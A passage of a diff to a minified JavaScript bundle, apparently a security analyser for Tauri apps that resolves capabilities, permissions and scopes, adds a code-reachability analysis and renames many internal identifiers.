-some(([first,...rest2])=>rest2.length>0&&!STANDARD2.has(first??""))?!1:rustOfApp(project).files.every(({file:file2})=>{const{macros,imports:imports2}=referencesIn(
-file2).names,imported2=imports2.filter(({as})=>names4.includes(as));return!names4.some(name=>macros.has(name))&&imported2.every(({path:[first]})=>STANDARD2.has(
-first??""))})}function macrosIn(expression){return expression.kind!=="macro"?[]:[expression.path,...expression.arguments.flatMap(macrosIn)]}function builtCapability(expression,placeOf12){
-const{root,methods:methods2}=chainOf2(expression);if(root.kind!=="call"||root.path.slice(-2).join("::")!=="CapabilityBuilder::new")return;const reader=new Arguments(
-placeOf12),[identifier]=reader.texts(root.arguments);if(identifier===void 0)return;const windows2=[],webviews=[],remote=[],permissions2=[];let local=!0,platforms=null;
-for(const{name,arguments:given2}of methods2)switch(name){case"window":case"windows":windows2.push(...reader.texts(given2));break;case"webview":case"webviews":webviews.
-push(...reader.texts(given2));break;case"remote":remote.push(...reader.texts(given2));break;case"permission":permissions2.push(...reader.texts(given2).map(({text:text3,
-at:at2})=>({id:text3,at:at2,scope:null})));break;case"permission_scoped":permissions2.push(...reader.scoped(given2));break;case"local":local=reader.boolean(given2);
-break;case"platform":case"platforms":platforms=(platforms??import_shared_aceps.NO_PLATFORM)|reader.platforms(given2);break;default:return}if(reader.isLiteral)return{
-identifier:identifier.text,at:identifier.at,local,remote,windows:windows2,webviews,permissions:permissions2,platforms:platforms??import_shared_aceps.EVERY_PLATFORM,
-platformsAt:null,only:null}}var Arguments=class{isLiteral=!0;#placeOf;constructor(placeOf12){this.#placeOf=placeOf12}texts([only2,...others]){const one3=textOf6(
-only2),many2=one3===void 0?textsOf2(only2):[one3];return many2===void 0||others.length>0?this.#computed([]):many2.map(text3=>this.#pattern(text3))}boolean([only2,
-...others]){return only2?.kind==="boolean"&&others.length===0?only2.value:this.#computed(!0)}platforms([only2,...others]){const known13=(only2?.kind==="list"?only2.
-items:only2===void 0?[]:[only2]).map(item=>{const[type,name]=item.kind==="name"?item.path.slice(-2):[];return type==="Target"?import_shared_aceps.PLATFORMS.find(
-each=>each.toLowerCase()===name?.toLowerCase()):void 0});return known13.length>0&&others.length===0&&known13.every(each=>each!==void 0)?(0,import_shared_aceps.platformSet)(
-...known13):this.#computed(import_shared_aceps.EVERY_PLATFORM)}scoped([id,allow2,deny,...others]){const name=textOf6(id);if(name===void 0||others.length>0)return this.#computed(
-[]);const{text:text3,at:at2}=this.#pattern(name);return[{id:text3,at:at2,scope:{allow:this.#entries(allow2),deny:this.#entries(deny)}}]}#entries(list){return textsOf2(
-list)?.map(each=>({value:each.value,at:this.#placeOf(each.span)}))??this.#computed([])}#pattern({value,span}){return{text:value,at:this.#placeOf(span)}}#computed(otherwise){
-return this.isLiteral=!1,otherwise}};function addedCapability(project,argument2){const{expression:written6,file:file2,index}=definitionOf(project,argument2),expression=withoutConversions(
-written6);if(expression!==written6)return addedCapability(project,{expression,file:file2,index});if(expression.kind==="text")return capabilityInCode(file2,expression);
-if(expression.kind==="macro"){const named12=includedFile(project,file2,expression);return named12===null?null:{file:named12}}const built=isBuilderOfTauri(file2)?
-builtCapability(expression,file2.placeOf):void 0;return built===void 0?null:{capabilities:[built],gaps:[]}}function includedFile(project,{rust,placeOf:placeOf12},macro){
-const[only2,...others]=macro.arguments;if(macro.path.at(-1)!=="include_str"||others.length>0||!isOfStandardMacros(project,macro))return null;const path=includedPath(
-only2,rust.file.path,rust.crate);if(path===void 0)return null;const name=only2?.kind==="text"?only2.value:path??"";return{path,name,at:placeOf12(only2?.span??macro.
-span)}}function isBuilderOfTauri({items}){const imported2=items.imports.filter(({as})=>as==="CapabilityBuilder");return!items.types.has("CapabilityBuilder")&&imported2.
-every(({path})=>path[0]==="tauri")}function capabilityInCode({rust,placeOf:placeOf12},{value,span}){const at2=placeOf12(span),file2={...rust.file,text:`
+plemented","unreachable"]);function left(file2,open,child,isFixed2){const{source}=file2,parts2=statementsOf(source,insideOf(source.tokens,open)).flatMap(part=>part.
+to>child?[]:leavingIn(file2,open,part).flatMap(at2=>headersOf(file2,open,at2,part,isFixed2)??[]));return{parts:parts2.length>MOST_LEAVING?[{from:open+1,to:child}]:
+parts2,names:[]}}function headersOf({source:{tokens},groupsAt},block,at2,part,isFixed2){const groups3=groupsAt(at2).map(({open})=>open),headers=groups3.slice(0,
+groups3.indexOf(block)).map(open=>headerOf(tokens,open)).filter(({from,to})=>from<to);return headers.some(header=>!isFixed2(header))||isKeyword(tokens[part.from],
+"let")&&!isFixed2(part)?void 0:[{from:at2,to:at2+1},...headers]}function leavingIn({source:{tokens},groupsAt},block,part){const found12=[];for(let at2=part.from;at2<
+part.to;at2+=1){const word2=tokens[at2]?.kind==="word"?tokens[at2]?.text??"":"";if(!(PANICS.has(word2)&&isMark(tokens[at2+1],"!"))&&!LEAVES3.has(word2))continue;
+const isOfLoop=word2==="break"||word2==="continue",inside=groupsAt(at2).map(({open,item})=>({open,item}));inside.slice(0,inside.findIndex(({open})=>open===block)).
+some(({open,item})=>item!==null||isClosure(tokens,open)||isOfLoop&&isLoop(tokens,open))||found12.push(at2)}return found12}function isClosure(tokens,open){const before3=tokens[open-
+1];return isMark(before3,"|")||isKeyword(before3,"move")||isKeyword(before3,"async")}function isLoop(tokens,open){const{from}=headerOf(tokens,open);return isKeyword(
+tokens[open-1],"loop")||["for","while"].includes(tokens[from]?.text??"")}function reachOf(project,{file:file2,index}){const code2=codeIndexOf(project),indexed2=code2.
+index.file(file2.rust.file.path);if(indexed2===void 0)return(0,import_shared_acegos.wordsOf)("unread");const reach2=reaches.get(project)??new Reach(project,code2);
+reaches.set(project,reach2);try{const conditions=reach2.at(indexed2,index);return conditions.length===0?null:(0,import_shared_acegos.wordsOf)("reach",[...new Set(
+conditions)].sort())}catch(error){if(!(error instanceof OutOfWork))throw error;return(0,import_shared_acegos.wordsOf)("reach",allCodeOf(project))}}var reaches=new WeakMap;
+function runsWhere(project,mention){const only2=conditionOf2(project,mention.file.rust.crate,mention.requires);if(only2!==null)return only2;const name=reachOf(project,
+mention);return name===null?null:{kind:"reach",name}}var Reach=class{#project;#code;#steps=new Map;#straight=new Map;#known=new Map;constructor(project,code2){this.#project=
+project,this.#code=code2}at(file2,index){const{own,holder}=this.#step(file2,index);if(holder===null||this.#isStraight(holder))return own;const known13=this.#known.
+get(holder.name)??this.#conditionsOf(holder);return this.#known.set(holder.name,known13),[...own,...known13]}#step(file2,index){const groups3=file2.groupsAt(index),
+at2=groups3.findIndex(({item})=>item?.kind==="function"||item?.kind==="macro"),called4=groups3[at2]?.item,own=this.#within(file2,index,at2<0?groups3:groups3.slice(
+0,at2+1));if(called4?.kind!=="function"&&called4?.kind!=="macro")return{own,holder:null};const name=`${file2.rust.file.path}\0${called4.keyword}`;return{own,holder:{
+name,file:file2,called:called4,outer:groups3.slice(at2+1)}}}#calls({name,file:file2,called:called4}){const known13=this.#steps.get(name);if(known13!==void 0)return known13;
+const steps=mentionsIn2(this.#code,called4.name).filter(each=>mayCall(called4,file2,each)).map(each=>this.#step(each.file,each.index));return this.#steps.set(name,
+steps),steps}#isStraight(start){const seen=new Map([[start.name,start]]);for(const holder of seen.values()){const isStraight=this.#straight.get(holder.name)??(isEntry(
+holder.file,holder.called,holder.outer)||null);if(isStraight===!1)continue;const plain8=isStraight?[]:this.#calls(holder).filter(({own})=>own.length===0);if(isStraight||
+plain8.some(step=>step.holder===null))return this.#straight.set(start.name,!0),!0;for(const{holder:caller}of plain8)caller!==null&&seen.set(caller.name,caller)}
+for(const name of seen.keys())this.#straight.set(name,!1);return!1}#conditionsOf(start){const seen=new Map([[start.name,start]]),found12=new Set(["called under \
+conditions"]);for(const holder of seen.values())for(const{own,holder:caller}of this.#calls(holder)){for(const condition of own)found12.add(condition);caller!==null&&
+!this.#isStraight(caller)&&seen.set(caller.name,caller)}return[...found12]}#within(file2,at2,groups3){const{source}=file2;let child=at2;const{index,work}=this.#code,
+attributes2=[...attributesOfStatement(source,at2)],found12=groups3.flatMap(({open,item})=>{work.spend((source.tokens[open]?.partner??open)-open);const{parts:parts2,
+names:names4}=decidingIn(file2,open,child,part=>isFixed(index,file2,part));return attributes2.push(...item===null?attributesOfStatement(source,open):attributesBefore(
+source,item.keyword)),child=open,[...parts2.map(part=>this.#named(file2,part)),...this.#given(names4)]}),conditions=attributes2.filter(({from})=>isKeyword(source.
+tokens[from],"cfg"));return[...found12,...this.#builds(file2,conditions)]}#builds(file2,attributes2){const{source}=file2;return attributes2.flatMap(({from})=>{const[
+predicate]=isOpen(source.tokens[from+1],"(")?argumentsAt(source,from+1):[];return predicate!==void 0&&isDecidedElsewhere(source,predicate)?[this.#named(file2,predicate)]:
+[]})}#named(file2,part){return conditionSliceOf(this.#project,file2,part,isFixed(this.#code.index,file2,part))}#given(names4){const{index}=this.#code;return names4.
+flatMap(name=>{const own=index.declared(name).map(({file:file2,part})=>writtenOf(file2.source,part));return own.length===0?[]:[(0,import_shared_acegos.wordsOf)(
+name,own)]})}},STANDARD2=new Set(["alloc","core","std"]);function isOfStandardMacros(project,expression){const paths3=macrosIn(expression),names4=[...new Set(paths3.
+map(path=>path.at(-1)??""))];return paths3.some(([first,...rest2])=>rest2.length>0&&!STANDARD2.has(first??""))?!1:rustOfApp(project).files.every(({file:file2})=>{
+const{macros,imports:imports2}=referencesIn(file2).names,imported2=imports2.filter(({as})=>names4.includes(as));return!names4.some(name=>macros.has(name))&&imported2.
+every(({path:[first]})=>STANDARD2.has(first??""))})}function macrosIn(expression){return expression.kind!=="macro"?[]:[expression.path,...expression.arguments.flatMap(
+macrosIn)]}function builtCapability(expression,placeOf12){const{root,methods:methods2}=chainOf2(expression);if(root.kind!=="call"||root.path.slice(-2).join("::")!==
+"CapabilityBuilder::new")return;const reader=new Arguments(placeOf12),[identifier]=reader.texts(root.arguments);if(identifier===void 0)return;const windows2=[],
+webviews=[],remote=[],permissions2=[];let local=!0,platforms=null;for(const{name,arguments:given2}of methods2)switch(name){case"window":case"windows":windows2.push(
+...reader.texts(given2));break;case"webview":case"webviews":webviews.push(...reader.texts(given2));break;case"remote":remote.push(...reader.texts(given2));break;case"\
+permission":permissions2.push(...reader.texts(given2).map(({text:text3,at:at2})=>({id:text3,at:at2,scope:null})));break;case"permission_scoped":permissions2.push(
+...reader.scoped(given2));break;case"local":local=reader.boolean(given2);break;case"platform":case"platforms":platforms=(platforms??import_shared_aceps.NO_PLATFORM)|
+reader.platforms(given2);break;default:return}if(reader.isLiteral)return{identifier:identifier.text,at:identifier.at,local,remote,windows:windows2,webviews,permissions:permissions2,
+platforms:platforms??import_shared_aceps.EVERY_PLATFORM,platformsAt:null,only:null}}var Arguments=class{isLiteral=!0;#placeOf;constructor(placeOf12){this.#placeOf=
+placeOf12}texts([only2,...others]){const one3=textOf6(only2),many2=one3===void 0?textsOf3(only2):[one3];return many2===void 0||others.length>0?this.#computed([]):
+many2.map(text3=>this.#pattern(text3))}boolean([only2,...others]){return only2?.kind==="boolean"&&others.length===0?only2.value:this.#computed(!0)}platforms([only2,
+...others]){const known13=(only2?.kind==="list"?only2.items:only2===void 0?[]:[only2]).map(item=>{const[type,name]=item.kind==="name"?item.path.slice(-2):[];return type===
+"Target"?import_shared_aceps.PLATFORMS.find(each=>each.toLowerCase()===name?.toLowerCase()):void 0});return known13.length>0&&others.length===0&&known13.every(each=>each!==
+void 0)?(0,import_shared_aceps.platformSet)(...known13):this.#computed(import_shared_aceps.EVERY_PLATFORM)}scoped([id,allow2,deny,...others]){const name=textOf6(
+id);if(name===void 0||others.length>0)return this.#computed([]);const{text:text3,at:at2}=this.#pattern(name);return[{id:text3,at:at2,scope:{allow:this.#entries(
+allow2),deny:this.#entries(deny)}}]}#entries(list){return textsOf3(list)?.map(each=>({value:each.value,at:this.#placeOf(each.span)}))??this.#computed([])}#pattern({
+value,span}){return{text:value,at:this.#placeOf(span)}}#computed(otherwise){return this.isLiteral=!1,otherwise}};function addedCapability(project,argument2){const{
+expression:written6,file:file2,index}=definitionOf(project,argument2),expression=withoutConversions(written6);if(expression!==written6)return addedCapability(project,
+{expression,file:file2,index});if(expression.kind==="text")return capabilityInCode(file2,expression);if(expression.kind==="macro"){const named12=includedFile(project,
+file2,expression);return named12===null?null:{file:named12}}const built=isBuilderOfTauri(file2)?builtCapability(expression,file2.placeOf):void 0;return built===
+void 0?null:{capabilities:[built],gaps:[]}}function includedFile(project,{rust,placeOf:placeOf12},macro){const[only2,...others]=macro.arguments;if(macro.path.at(
+-1)!=="include_str"||others.length>0||!isOfStandardMacros(project,macro))return null;const path=includedPath(only2,rust.file.path,rust.crate);if(path===void 0)return null;
+const name=only2?.kind==="text"?only2.value:path??"";return{path,name,at:placeOf12(only2?.span??macro.span)}}function isBuilderOfTauri({items}){const imported2=items.
+imports.filter(({as})=>as==="CapabilityBuilder");return!items.types.has("CapabilityBuilder")&&imported2.every(({path})=>path[0]==="tauri")}function capabilityInCode({
+rust,placeOf:placeOf12},{value,span}){const at2=placeOf12(span),file2={...rust.file,text:`
 `.repeat(at2.line-1)+value},json=parseJson(file2,"json"),parsed10=json.ok?json:parseToml(file2);if(parsed10.ok)return readCapabilityFile(parsed10.value);const message=`\
 The capability that this line adds can't be read: ${parsed10.message}`,gap3=(0,import_shared_acegos.gapAt)(at2,{kind:"dynamic",rests:(0,import_shared_acegos.wordsOf)(
 "capability in code",value),message});return{capabilities:[],gaps:[gap3]}}function isOwnMethod(project,{file:file2,index,word:word2}){const{source}=file2;if(!isMark(
@@ -7755,7 +7817,7 @@ er"&&path.join("::")==="tauri::Builder")}function argumentAt(project,mention,par
 second]=[tokens[part.from],tokens[part.from+1]],isOne=part.to===part.from+1,isContext=mention.word==="generate_context";if(isContext&&isOne&&first?.kind==="text"&&
 position===0){const given2={name:first.text,at:placeOf12(first)};return{capabilities:[],gaps:otherConfiguration(project,rust.crate,given2)}}if(isOne&&first?.text===
 "tauri")return{capabilities:[],gaps:[]};if(isContext&&isMark(second,"=")){const value=expressionIn(source,{from:part.from+2,to:part.to}),texts2=first?.text==="c\
-apabilities"?textsOf2(value):void 0;if(first?.text==="test"&&value.kind==="boolean")return{capabilities:[],gaps:[]};if(texts2!==void 0){const folder=folderOfRustc(
+apabilities"?textsOf3(value):void 0;if(first?.text==="test"&&value.kind==="boolean")return{capabilities:[],gaps:[]};if(texts2!==void 0){const folder=folderOfRustc(
 project);return{capabilities:texts2.map(text3=>({path:folder===null?null:joined(folder,text3.value),name:text3.value,at:placeOf12(text3.span)})),gaps:[]}}}const rests=sliceOf(
 project,rust.file.path,part);return{capabilities:[],gaps:[unknown2(mention,"is given what isn't read here",rests)]}}function folderOfRustc({location,files}){const{
 own,folder}=cargoWorkspace(location.root,files);return own===void 0?location.root:folder}function unknown2(mention,what,rests){const message=`${(0,import_shared_acegpst.code)(
@@ -7904,7 +7966,7 @@ own.app,script.app.commands,lists),gaps=[...own.gaps,...app.gaps],[inTree,inline
 itsFiles,[],lists);for(const gap3 of read11.gaps)gaps.push(gap3);inTree.set(key3,read11.manifest)}for(const[name,{commands:commands2,default:given2}]of script.plugins){
 const read11=readPermissionFiles(own.inlined.get(name)??[],commands2,lists);for(const gap3 of read11.gaps)gaps.push(gap3);inlined2.set(name,{...read11.manifest,
 default:read11.manifest.default??given2})}const whole2=([key3,manifest2])=>[key3,{how:"known",manifest:manifest2}],known13=new Map([["",app.manifest],...inlined2].
-map(whole2));return{of(key3){const before2=known13.get(key3);if(before2!==void 0)return before2;const answer2=find2(key3,project,inTree);return known13.set(key3,
+map(whole2));return{of(key3){const before3=known13.get(key3);if(before3!==void 0)return before3;const answer2=find2(key3,project,inTree);return known13.set(key3,
 answer2),answer2},isKey:key3=>inTree.has(key3)||inlined2.has(key3)||isCatalogued(key3)||project.locked(crateOf(key3))!==void 0,pinnedAt:key3=>key3===""?null:project.
 locked(crateOf(key3))?.at??null,restsOn(key3){if(key3==="")return(0,import_shared_acegos.wordsOf)(own.app.map(import_shared_acegos.contentOf),script.app.commands);
 const locked=project.locked(crateOf(key3));if(locked===void 0)return(0,import_shared_acegos.wordsOf)(key3);const{version,source,checksum,folder}=locked;return(0,import_shared_acegos.wordsOf)(
@@ -8015,11 +8077,11 @@ capability:capability.identifier,permission:entry.id,leaf:leaf.id,order:order2,a
 steps,platformsAt:capability.platformsAt,enabledAt,inferred:leaf.inferred,...capability.only!==null&&{only:capability.only}}}function poured(common3,{settings:settings3}){
 if(common3.scope===null)return[];const read11=readingOf(common3.plugin,void 0,settings3);return[{...common3,effect:"scope",command:"",context:{kind:"local"},...read11}]}
 function allowed(common3,commands2,contexts,resolving){return contexts.flatMap(context2=>commandsOf3(commands2,common3.plugin,resolving.manifests).map(({name,at:at2})=>({
-...common3,...at2,effect:"allow",context:context2,...called2(common3.plugin,name,resolving)})))}function denied(common3,commands2,contexts,resolving){const{manifests,
+...common3,...at2,effect:"allow",context:context2,...called3(common3.plugin,name,resolving)})))}function denied(common3,commands2,contexts,resolving){const{manifests,
 tauri}=resolving,its=tauri.since212?contexts:contexts.slice(0,1).map(()=>ANY_PAGE),settings3=versionOf5(tauri);return its.flatMap(context2=>commandsOf3(commands2,
-common3.plugin,manifests).map(({name,at:at2})=>{const call2=called2(common3.plugin,name,resolving);return{...common3,...at2,effect:"deny",context:context2,...call2,
+common3.plugin,manifests).map(({name,at:at2})=>{const call2=called3(common3.plugin,name,resolving);return{...common3,...at2,effect:"deny",context:context2,...call2,
 settings:settings3}}))}var ANY_PAGE={kind:"any"};function versionOf5({since212,at:at2}){return at2===null?[]:[{name:"tauri",value:since212?"since 2.12":"before \
-2.12",at:at2}]}function called2(key3,command2,{settings:settings3}){return{command:commandKey(key3,command2),...readingOf(key3,command2,settings3)}}function commandsOf3(names4,key3,manifests){
+2.12",at:at2}]}function called3(key3,command2,{settings:settings3}){return{command:commandKey(key3,command2),...readingOf(key3,command2,settings3)}}function commandsOf3(names4,key3,manifests){
 return names4.flatMap(name=>{if(name!=="*")return[{name,at:null}];if(!manifests.wildcards)return[];const known13=manifests.of(key3),manifest2=known13.how==="unk\
 nown"?void 0:known13.manifest,declared3=[...manifest2?.commands??[],...manifest2?.named??[]].filter(command2=>command2.name!=="*");return declared3.length===0?[
 {name,at:null}]:declared3.map(command2=>({name:command2.name,at:command2.at===null?null:{definedAt:command2.at}}))})}function commandKey(key3,command2){return key3===
@@ -8028,10 +8090,10 @@ webviews:[],context:{kind:"local"},plugin:entry.id.slice(0,Math.max(0,entry.id.l
 capability:capability.identifier,permission:entry.id,leaf:"",order:0,at:entry.at,definedAt:null,steps:[],platformsAt:null,enabledAt:null,inferred:!1,...capability.
 only!==null&&{only:capability.only}}}var MOST_GRANTS=2e4;function resolve2(active,platforms,resolving){const grants=[],gaps=[];let order2=0;for(const enabled of active){
 const{capability,platforms:where}=enabled,contexts=contextsOf2(capability,resolving.tauri);for(const entry of capability.permissions){if(grants.length>MOST_GRANTS)
-return cutAt(entry);const before2=grants.length,{leaves:leaves2,gaps:unknown3}=expanded2(entry,resolving.manifests);gaps.push(...unknown3);for(const leaf of leaves2){
+return cutAt(entry);const before3=grants.length,{leaves:leaves2,gaps:unknown3}=expanded2(entry,resolving.manifests);gaps.push(...unknown3);for(const leaf of leaves2){
 if(grants.length>MOST_GRANTS)return cutAt(entry);order2+=1;const on3=where&platforms&leaf.permission.platforms;if(on3===import_shared_aceps.NO_PLATFORM)continue;
 const found12={leaf,entry,capability:enabled,platforms:on3,order:order2};for(const grant2 of grantsOf3(found12,contexts,resolving))grants.push(grant2)}grants.length===
-before2&&grants.push(emptyGrant(capability,entry,where&platforms))}}return{grants,gaps};function meanings(){const ids=active.flatMap(({capability})=>capability.
+before3&&grants.push(emptyGrant(capability,entry,where&platforms))}}return{grants,gaps};function meanings(){const ids=active.flatMap(({capability})=>capability.
 permissions.map(({id})=>id));return[...new Set(["",...ids.map(id=>id.slice(0,Math.max(0,id.lastIndexOf(":"))))])].sort().map(resolving.manifests.restsOn)}function cutAt({
 at:at2}){return{grants,gaps:[...gaps,(0,import_shared_acegos.gapAt)(at2,{kind:"truncated",rests:(0,import_shared_acegos.wordsOf)(active,...meanings()),message:"\
 The app's capabilities grant more than can be compared; this permission and the rest were not read."})]}}}function contextsOf2({local,remote},{since212}){return[
@@ -8046,8 +8108,8 @@ replace(/\s+/g," "),written6=writtenOf(file2.source,part),definition=definitionO
 part,expression:definition,text:textIn2(definition)}})}function textIn2(expression){const isPath=expression.kind==="call"&&/^(?:Path::new|PathBuf::from)$/.test(
 expression.path.slice(-2).join("::"));return textOf6(isPath?expression.arguments[0]:expression)?.value}function computedFrom(project,{mention},computed3){const{
 file:file2,index,groups:groups3,isInMacro:isInMacro2}=mention,{path}=file2.rust.file;if(computed3.length>0)return(0,import_shared_acegos.wordsOf)(computed3.map(
-({part})=>argumentSliceOf(project,path,part)));const parts=statementsAbout(file2,index).map(part=>argumentSliceOf(project,path,part)),macro=groups3.find(({item})=>item?.
-kind==="macro")?.item,given2=isInMacro2&&macro?.kind==="macro"?usesOf(project,macro.name):[];return(0,import_shared_acegos.wordsOf)(parts,given2)}function usesOf(project,name){
+({part})=>argumentSliceOf(project,path,part)));const parts2=statementsAbout(file2,index).map(part=>argumentSliceOf(project,path,part)),macro=groups3.find(({item})=>item?.
+kind==="macro")?.item,given2=isInMacro2&&macro?.kind==="macro"?usesOf(project,macro.name):[];return(0,import_shared_acegos.wordsOf)(parts2,given2)}function usesOf(project,name){
 return mentionsIn2(codeIndexOf(project),name).flatMap(({file:file2,index})=>{const{tokens}=file2.source,open=tokens[index+2];return!isMark(tokens[index+1],"!")||
 open?.kind!=="open"?[]:[argumentSliceOf(project,file2.rust.file.path,{from:index+3,to:open.partner})]})}var REGISTERS=["register_asynchronous_uri_scheme_protoco\
 l","register_uri_scheme_protocol"];function ownSchemes(project){const known13=found9.get(project);if(known13!==void 0)return known13;const schemes=codeCalls(project,
@@ -8145,10 +8207,10 @@ allow:paths(allowed2),deny:paths(denied2)};return denied2===void 0?scope:{...sco
 at:at2})=>scopeEntry("path",withTauri1Names(value),at2))}function urlGlobs(list){const entries=[],gaps=[];for(const{value,at:at2}of stringsOf(list))if(URL.canParse(
 value))entries.push(scopeEntry("url",new URL(value).href.replace(/\*\*\/$/,"**"),at2));else{const message=`${(0,import_shared_acegpst.code)(value)} in ${(0,import_shared_acegpst.code)(
 "http.scope")} is no URL: the app doesn't build. It was read as granting nothing.`;gaps.push((0,import_shared_acegos.gapAt)(at2,{kind:"does-not-build",rests:(0,import_shared_acegos.wordsOf)(
-"http.scope",value),message}))}return{entries,gaps}}function programs3(allowlist){const byName3=new Map;for(const item of itemsOf(allowlist.value("shell.scope"))){
+"http.scope",value),message}))}return{entries,gaps}}function programs3(allowlist){const byName4=new Map;for(const item of itemsOf(allowlist.value("shell.scope"))){
 const fields3=new Map(membersOf5(item).map(([name2,{value}])=>[name2,value])),sidecar=asBoolean(fields3.get("sidecar"))===!0,name=asString(fields3.get("name"));
-if(byName3.delete(name),allowlist.enabled(sidecar?"shell.sidecar":"shell.execute")===void 0)continue;const written6={...plain(item),...unanchored(fields3.get("a\
-rgs"))};byName3.set(name,scopeEntry("program",written6,item.at))}return[...byName3.values()]}function unanchored(args){return args?.kind!=="array"?{}:{args:args.
+if(byName4.delete(name),allowlist.enabled(sidecar?"shell.sidecar":"shell.execute")===void 0)continue;const written6={...plain(item),...unanchored(fields3.get("a\
+rgs"))};byName4.set(name,scopeEntry("program",written6,item.at))}return[...byName4.values()]}function unanchored(args){return args?.kind!=="array"?{}:{args:args.
 items.map(item=>item.kind==="object"?{...plain(item),raw:!0}:plain(item))}}var tauriAllowlist={id:"tauri-allowlist",scope:"app",layered:!0,files:[],read(project){
 if(project.major!==1)return{grants:[],gaps:[]};const surfaceOn=onceFor(project,ownPlugins(project)),grants=(0,import_shared_aceps.onEachPlatform)(platform=>surfaceOn(
 platform).grants),gaps=(0,import_shared_aceps.onEachPlatform)(platform=>surfaceOn(platform).gaps);return{grants:grants.map(([grant2,platforms])=>({...grant2,platforms})),
@@ -8212,9 +8274,9 @@ h switches the browser gets"));return[...folders,...schemes,...addresses,...swit
 source.tokens[index+1],to=open?.kind==="open"?open.partner:index+1,rests=(0,import_shared_acegos.wordsOf)("computed address",writtenOf(file2.source,{from:index,
 to}));return(0,import_shared_acegos.gapAt)(at2,{kind:"dynamic",rests,message:"A window shows an address that the app's code computes, so whose pages it shows is\
  not known. Compare by hand what it comes from."})}function isText(argument2){return argument2?.text!==void 0}function gapsOf(project,call2,computed3,what){const{
-mention,only:only2}=call2;if(computed3.length===0)return[];const parts=computed3.filter(argument2=>argument2!==void 0),message=`${(0,import_shared_acegpst.code)(
+mention,only:only2}=call2;if(computed3.length===0)return[];const parts2=computed3.filter(argument2=>argument2!==void 0),message=`${(0,import_shared_acegpst.code)(
 mention.word)} is given what the app's code computes, so ${what} is not known. Write it out, or compare by hand what it comes from.`,rests=(0,import_shared_acegos.wordsOf)(
-"computed",mention.word,computedFrom(project,call2,parts)),isShipped2=only2===null||only2.kind==="reach";return[(0,import_shared_acegos.gapAt)(mention.at,{kind:"\
+"computed",mention.word,computedFrom(project,call2,parts2)),isShipped2=only2===null||only2.kind==="reach";return[(0,import_shared_acegos.gapAt)(mention.at,{kind:"\
 dynamic",rests,message,blocking:isShipped2})]}var CI=/^\.(?:github|gitea|forgejo)\/(?:workflows|actions)\/|(?:^|\/)action\.ya?ml$|(?:^|\/)(?:\.gitlab-ci[^/]*\.ya?ml|azure-pipelines[^/]*\.ya?ml|Jenkinsfile[^/]*|\.?appveyor\.ya?ml|\.travis\.ya?ml|\.drone\.(?:ya?ml|jsonnet|star)|bitbucket-pipelines\.ya?ml|codemagic\.ya?ml|cloudbuild[^/]*\.ya?ml|buildspec[^/]*\.ya?ml|\.cirrus\.(?:ya?ml|star)|\.semaphore\.ya?ml|wercker\.ya?ml|bitrise\.ya?ml|\.build\.ya?ml|eas\.json|goreleaser\.ya?ml|\.goreleaser\.ya?ml)$|^\.(?:gitlab|circleci|azure|azuredevops|azure-pipelines|buildkite|woodpecker|semaphore|builds|tekton|teamcity|onedev|screwdriver|eas|xcode|depot|blacksmith)(?:\/|\.ya?ml$|-)|(?:^|\/)(?:ci_scripts|fastlane)\//i,
 SCRIPT3=/\.(?:sh|bash|zsh|ksh|fish|command|ps1|psm1|bat|cmd|py|rb|pl|php|lua|mk|just|nu|nix|bzl|cmake)$|(?:^|\/)(?:(?:GNU)?makefile|\.?justfile|taskfile(?:\.dist)?\.ya?ml|Makefile\.toml|(?:Docker|Container|Earth|Vagrant|Rake|Brew|Fast|Proc)file[^/]*|.*\.(?:Docker|Earth)file|(?:docker-)?compose[^/]*\.ya?ml|meson\.build|CMakeLists\.txt|BUILD(?:\.bazel)?|WORKSPACE(?:\.bazel)?|turbo\.jsonc?|nx\.json|lerna\.json|rush\.json|moon\.ya?ml|magefile\.go|build\.xml|SConstruct|wscript)$/i,
 FILES9=[{name:"the app's configuration",role:"config",coverage:"in part",why:"Read for what pages and the updater may do; settings that aren't judged yet are na\
@@ -8232,16 +8294,16 @@ pp by a domain of yours in reverse: \`com.example.notes\`.`}));return[...new Map
 /^(?:linux)\./,"")){return{v2:`bundle.${v22}`,v1:v1===null?null:`tauri.bundle.${v1}`}}function valueOfKey(project,platform,key3){const here=project.major===1?key3.
 v1:key3.v2;if(here===null)return;const config=project.config(platform),names4=here.split(".");return{value:names4.reduce(configKey,config),written:here,at:placeOfKey(
 config,...names4)}}function wholly(...keys){return keys.flatMap(({v2:v22,v1})=>[v22,...v1===null?[]:[v1]].map(key3=>`${key3}.**`))}function bytesOf(text3){return Buffer.
-from(text3,"utf8").toString("latin1")}function wildmatch(pattern){return{exact:partsOf12(pattern,!1),folded:partsOf12(pattern,!0)}}function isMatch(pattern,text3,ignoreCase,work){
-const parts=ignoreCase?pattern.folded:pattern.exact;if(parts===null)return!1;let reached5=reach(parts,[0]);for(let i2=0;i2<text3.length&&reached5.size>0;i2+=1){
-const written6=text3.charCodeAt(i2),byte=ignoreCase?lower(written6):written6;work.spend(reached5.size),reached5=reach(parts,[...reached5].flatMap(at2=>parts[at2]?.
-takes(byte)?[parts[at2].repeats?at2:at2+1]:[]))}return reached5.has(parts.length)}function reach(parts,from){const reached5=new Set,todo=[...from];for(let at2=todo.
-pop();at2!==void 0;at2=todo.pop()){if(reached5.has(at2))continue;reached5.add(at2);const part=parts[at2];part?.repeats&&todo.push(at2+1),part?.passes!==void 0&&
-todo.push(at2+1,at2+part.passes)}return reached5}var SLASH3=47,notSlash=byte=>byte!==SLASH3;function partsOf12(pattern,folds){const parts=[];for(let at2=0;at2<pattern.
-length;){const character2=pattern[at2];if(character2==="*"){const end=endOfStars(pattern,at2);parts.push(...starsOf(pattern,at2,end)),at2=end}else if(character2===
-"["){const set=setAt(pattern,at2+1,folds);if(set===null)return null;parts.push({takes:byte=>notSlash(byte)&&set.has(byte)}),at2=set.end}else if(character2==="?")
-parts.push({takes:notSlash}),at2+=1;else{if(character2==="\\"&&(at2+=1),at2===pattern.length)return null;const byte=pattern.charCodeAt(at2);parts.push({takes:equalTo(
-folds&&character2!=="\\"?lower(byte):byte)}),at2+=1}}return parts}function equalTo(byte){return other=>other===byte}function endOfStars(pattern,from){let end=from;
+from(text3,"utf8").toString("latin1")}function wildmatch(pattern){return{exact:partsOf13(pattern,!1),folded:partsOf13(pattern,!0)}}function isMatch(pattern,text3,ignoreCase,work){
+const parts2=ignoreCase?pattern.folded:pattern.exact;if(parts2===null)return!1;let reached5=reach(parts2,[0]);for(let i2=0;i2<text3.length&&reached5.size>0;i2+=
